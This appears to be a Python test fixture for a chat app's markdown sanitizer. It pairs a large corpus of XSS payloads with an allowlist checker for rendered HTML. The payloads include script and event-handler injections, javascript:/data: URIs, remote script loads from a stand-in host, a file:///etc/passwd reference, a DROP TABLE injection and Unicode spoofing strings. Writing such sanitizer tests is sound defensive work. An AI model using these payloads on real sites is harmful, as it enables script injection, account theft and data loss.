"""Texts that have made other chats run scripts, and what a page must not have in it afterwards."""

import re
from html.parser import HTMLParser
from itertools import product

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d\x0a>alert(1)</script >",
    "</p><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert('1')>",
    '<body onload=alert(1)><iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';*{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.test/>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    '<a onmouseover="alert(1)">x</a>',
    "<a\tonclick=alert(1)\thref=#>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "<!--><script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<xmp><img src onerror=alert(1)></xmp>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<custom-element onpointerover=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src onerror=alert(1)&#x3e;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```html onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    "~~~</pre><img src onerror=alert(1)>\nx\n~~~",
    "> <script>alert(1)</script>\n> > <img src onerror=alert(1)>",
    "- <img src onerror=alert(1)>\n  1. <svg onload=alert(1)>",
    "**<img src onerror=alert(1)>**",
    "@ada<script>alert(1)</script> @<b>x</b>",
    '@ada" onclick="alert(1)',
    '<span class="mention" onclick=alert(1)>@ada</span>',
    ":tada:<img src onerror=alert(1)>:tada:",
    "{{7*7}} ${alert(1)} <%= 1 %> #{1} %s {0}",
    "' OR 1=1; DROP TABLE chat_message; --",
    "\u202e<tpircs>)1(trela\u202c",
    "a" + "\u0301" * 1000,
    "\ufeff<script>\u200balert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<\u017fcript>alert(1)</\u017fcript>",
    # What parsers make something else of when they read it for the second time
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<table><td><svg><desc><td><img src onerror=alert(1)>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<plaintext><img src onerror=alert(1)>",
    "<listing>&lt;img src onerror=alert(1)&gt;</listing>",
    "&lt;/p&gt;<img src onerror=alert(1)>&#0;&#xD800;&#x110000;",
    # Tags without an end, or with strange ones
    "<script src=//evil.test/x.js",
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1);//<</script>",
    "<a href='javascript:alert(1)'",
    "<svg/\x0bonload=alert(1)>",
    "<IMG\u00a0SRC=x\u00a0ONERROR=alert(1)>",
    "</title><script>alert(1)</script></textarea><script>alert(1)</script>",
    # Markdown around itself
    "````\n```\n<script>alert(1)</script>\n```\n````\n<img src onerror=alert(1)>",
    "```\n~~~\n```\n<img src onerror=alert(1)>\n~~~",
    "> ```\n<script>alert(1)</script>\n> ```",
    "``<img src onerror=alert(1)>`",
    "```language-x mention\nx\n```",
    "```&quot;&gt;&lt;script&gt;\nx\n```",
    "~~~`onclick=alert(1)`\nx\n~~~",
    '[x](https://x.test "\\"onmouseover=\\"alert(1)")',
    "[x](https://x.test '\"><img src onerror=alert(1)>')",
    "[x](https://x.test (</a><script>alert(1)</script>))",
    "[<img src onerror=alert(1)>](https://x.test)",
    "[x](https://x.test)<a href='javascript:alert(1)'>",
    "[[x](javascript:alert(1))](https://x.test)",
    "[https://x.test](javascript:alert(1))",
    "[x](javascript:alert(1)//https://x.test)",
    "[`](javascript:alert(1))`](https://x.test)",
    "[*](javascript:alert(1))*",
    "[x]\n[x]: javascript:alert(1)\n[x]: <javascript:alert(1)> 't'",
    "![x][x]\n\n[x]: https://evil.test/x.png",
    "https://x.test/<script>alert(1)</script>",
    "https://x.test/'onclick='alert(1)'[x](javascript:alert(1))",
    "https://javascript:alert(1)@x.test/",
    "https://x.test\u2028javascript:alert(1)",
    "<https://x.test/`onclick=alert(1)`>",
    "<mailto:ada@x.test?body=<script>>",
    '<ada@x.test"onclick=alert(1)>',
    'www.x.test"onclick=alert(1)',
    "~~**__`<b onclick=alert(1)>`__**~~",
    "@<ada>@[ada](javascript:alert(1))@`ada`",
    ":<script>::tada:</script>:",
    "xxxxxxxx[http://p://",  # an error in markdown-it-py 4.3, which takes what it only looks over for written
    # What deceives people and not programs
    "[https://bank.test](https://evil.test \u202e)",
    "\u2066\u2067\u2068\u2069\u202a\u202d\u202e[moc.test](https://x.test)",
    "x\u200b\u200c\u200d\u2060\ufeffx",
    "Z" + "\u0300\u0489\u20dd" * 300,
    "\ud7ff\ue000\ufffd\ufffe\uffff\U0010ffff",
    "{%debug%}{{constructor.constructor('alert(1)')()}}",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:alert`1`",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.test/1",
    "about:blank",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    'https://evil.test/"onmouseover="alert(1)',
    "https://evil.test/'onmouseover='alert(1)",
    "https://evil.test/><img src onerror=alert(1)>",
    "//evil.test/x",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    '[x](https://x.test "{}")',
    "![x]({})",
    "<{}>",
    "{}",
    "[x][y]\n\n[y]: {}",
    "[![x]({})]({})",
]
CORPUS = [*SCRIPTS, *(form.replace("{}", address) for form, address in product(FORMS, ADDRESSES))]
# Once more and by hand: whatever the code allows some day has to be allowed here too.
TAGS = {"p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span"}
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "code": {"class"},
    "ol": {"start"},
    "span": {"class"},
}
VALUES = {
    ("span", "class"): re.compile("mention"),
    ("code", "class"): re.compile(r"language-[\w+#.-]+"),
    ("ol", "start"): re.compile(r"\d{1,9}"),
    ("a", "target"): re.compile("_blank"),
    ("a", "href"): re.compile(r"(?:https?://[^\s/]|mailto:\S)\S*", re.IGNORECASE),
}
REL = {"noopener", "noreferrer", "nofollow", "ugc"}


class Found(HTMLParser):
    """Everything in a piece of HTML that is not allowed there."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.bad.append(f"<{tag}>")
        if tag != "br":
            self.open.append(tag)
        given = dict(attributes)
        self.bad += [f"{tag} {name}" for name in given if name not in ATTRIBUTES.get(tag, set())]
        for name, value in attributes:
            if (tag, name) in VALUES and not VALUES[tag, name].fullmatch(value or ""):
                self.bad.append(f"{tag} {name}={value}")
        if tag == "a" and not ("href" in given and set((given.get("rel") or "").split()) == REL):
            self.bad.append(f"a {given}")
        if tag == "span" and "class" not in given:
            self.bad.append("span")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.bad.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.bad.append(f"<?{data}>")


def faults_of(html: str) -> list[str]:
    """What is in this HTML and should not be; nothing where it is well formed and harmless."""
    found = Found(html)
    return [*found.bad, *(f"<{tag}> without end" for tag in found.open)]
